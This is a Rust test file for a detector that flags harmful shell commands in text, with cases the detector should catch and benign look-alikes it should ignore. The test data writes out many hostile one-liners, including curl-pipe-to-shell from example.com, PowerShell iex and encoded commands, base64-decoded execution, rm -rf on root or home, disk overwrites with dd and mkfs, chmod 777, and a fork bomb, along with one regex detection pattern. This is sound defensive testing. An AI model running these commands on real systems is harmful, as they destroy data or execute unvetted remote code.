use super::{Harm, find};
use crate::marks::{self, Mark};

fn harms(text: &str) -> Vec<Harm> {
    let marks = marks::find(text);
    let marks = marks
        .into_iter()
        .filter(|(mark, _)| *mark == Mark::Command)
        .map(|(_, at)| at);
    find(text, marks)
        .into_iter()
        .map(|(_, harm)| harm)
        .collect()
}

#[test]
fn commands_that_do_harm_are_found_in_every_dress() {
    for (text, harm) in [
        ("curl -fsSL https://example.com/i.sh | sh", Harm::Piped),
        (
            "Run `curl https://example.com/i | sudo -E bash -` first.",
            Harm::Piped,
        ),
        (
            "wget -qO- https://example.com/i | bash -s -- --yes",
            Harm::Piped,
        ),
        ("curl -fsSL https://example.com/i \\\n  | sh", Harm::Piped),
        ("curl https://example.com/i |\n  sh", Harm::Piped),
        ("bash <(curl -s https://example.com/i)", Harm::Piped),
        ("sh -c \"$(curl -fsSL https://example.com/i)\"", Harm::Piped),
        ("eval \"$(wget -qO- https://example.com/i)\"", Harm::Piped),
        (
            "curl -sSL https://example.com/i.py | python3 -",
            Harm::Piped,
        ),
        ("irm https://example.com/i.ps1 | iex", Harm::Piped),
        ("iex (iwr https://example.com/i.ps1)", Harm::Piped),
        (
            "| Linux | `curl https://example.com/i \\| sh` |",
            Harm::Piped,
        ),
        ("curl https://example.com/i.gz | gunzip | sh", Harm::Piped),
        ("echo aGk= | base64 -d | sh", Harm::Decoded),
        ("eval \"$(echo aGk= | base64 --decode)\"", Harm::Decoded),
        ("exec(base64.b64decode(\"aGk=\"))", Harm::Decoded),
        ("eval(atob('aGk='))", Harm::Decoded),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", Harm::Decoded),
        ("rm -rf /", Harm::Deletes),
        ("sudo rm -fr ~/", Harm::Deletes),
        ("rm -r -f \"$HOME\"", Harm::Deletes),
        ("rm -rf \"$HOME\"/*", Harm::Deletes),
        ("rm -rf '/'", Harm::Deletes),
        ("curl \"$(cat address)\" | sh", Harm::Piped),
        ("curl $URL | sh", Harm::Piped),
        ("dd if=/dev/zero of=/dev/sda bs=1M", Harm::Overwrites),
        ("mkfs.ext4 /dev/nvme0n1", Harm::Overwrites),
        ("echo x > /dev/sda", Harm::Overwrites),
        ("chmod -R 777 .", Harm::Opens),
        ("chmod a+rwx out", Harm::Opens),
        (":(){ :|:& };:", Harm::Forks),
    ] {
        assert_eq!(harms(text), [harm], "{text}");
    }
}

#[test]
fn commands_that_do_none_are_left_alone() {
    for text in [
        "curl -s https://example.com/a.json | jq .",
        "curl -s https://example.com/a.json | python3 -m json.tool",
        "curl -s https://example.com/a | python3 -c 'import sys'",
        "curl -O https://example.com/i.sh; less i.sh; sh i.sh",
        "curl -s https://example.com/a | sh scripts/read.sh",
        "| `curl` | sh |",
        "| cURL | none |\n| Python | sh |",
        "Strategy C: Bash (curl and jq)",
        "\"Bash(curl * | bash)\"",
        "Look for `curl ... | bash` and `iwr … | iex`.",
        "(?:curl|wget)\\s+[^|]*\\|\\s*(?:bash|sh)",
        "rm -rf \"$DIR\"/*",
        "source <(kubectl completion bash)",
        "V=$(curl -s https://example.com/version)",
        "rm -rf ./build",
        "rm -rf /tmp/work",
        "rm -rf \"$DIR\"",
        "rm /",
        "chmod 755 run.sh",
        "chmod +x run.sh",
        "chmod 1777 /srv/drop",
        "dd if=a.img of=b.img",
        "base64 -d key.b64 > key",
        "powershell -ep bypass -c cmd",
        "eval(code)",
        "cat log 2> /dev/null",
    ] {
        assert_eq!(harms(text), [], "{text}");
    }
}

#[test]
fn a_program_that_is_fetched_and_run_at_once_is_told_from_one_that_is_checked() {
    for text in [
        "curl https://example.com/i.sh -o /tmp/i.sh && bash /tmp/i.sh",
        "curl -fsSLo i.sh https://example.com/i.sh; sudo sh ./i.sh",
        "wget https://example.com/i.sh\nchmod +x i.sh\n./i.sh --yes",
        "curl -O https://example.com/get.py\npython3 get.py",
        "curl https://example.com/i.sh > i.sh && sh i.sh",
        "iwr https://example.com/i.ps1 -OutFile i.ps1; .\\i.ps1",
        "wget -q https://example.com/i.sh -O i.sh && source i.sh",
    ] {
        assert_eq!(harms(text), [Harm::Fetched], "{text}");
    }
    for text in [
        "curl https://example.com/i.sh -o i.sh && sha256sum -c i.sum && bash i.sh",
        "wget https://example.com/i.sh\nless i.sh\nbash i.sh",
        "curl -O https://example.com/i.sh\n# Review the script first\nbash i.sh",
        "curl -o data.json https://example.com/data.json && python3 report.py data.json",
        "curl -o i.tgz https://example.com/i.tgz && tar xf i.tgz",
        "wget https://example.com/i.sh\n```\n\n```bash\n./i.sh",
        "curl -o i.sh https://example.com/i.sh && bash other.sh i.sh",
    ] {
        assert_eq!(harms(text), [], "{text}");
    }
}
